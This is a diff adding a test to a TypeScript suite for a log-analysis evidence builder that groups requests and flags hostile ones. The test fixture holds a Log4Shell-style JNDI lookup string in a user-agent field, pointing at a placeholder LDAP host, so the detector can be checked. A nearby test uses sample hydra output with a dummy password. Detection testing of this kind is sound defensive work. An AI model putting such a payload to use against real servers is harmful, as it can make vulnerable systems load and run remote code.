@@ -112,6 +112,13 @@ describe('buildEvidence', () => {
     expect(evidence.entities.find((entity) => entity.alias === 'h2')?.mentionCount).toBe(3);
   });
 
+  it('sees an attack that a client carries in its agent, and groups requests by method and answer', async () => {
+    const request = (message: string): LogRecord => record({ kind: 'event', severityId: 1, classUid: 4002, message, srcEndpoint: { ip: '203.0.113.7' } });
+    const { evidence } = await build([...Array.from({ length: 9 }, (_, index) => request(`GET /page/${index}/x 200 agent "Browser ${index}"`)), request('GET /missing 404'), request('GET / 200 agent "${jndi:ldap://203.0.113.7:1389/a}"')]);
+    expect(evidence.groups.map((group) => [group.count, group.isSign]).sort()).toEqual([[1, false], [1, true], [9, false]]);
+    expect(evidence.groups[0]?.scoreReasons).toContain('hostile request');
+  });
+
   it('masks a password in the digest', async () => {
     const { evidence } = await build([record({ kind: 'text', message: 'hydra found login: admin password: hunter2secret on 10.0.0.5' })]);
     expect(evidence.digest[0]?.text).toContain('password: ***');
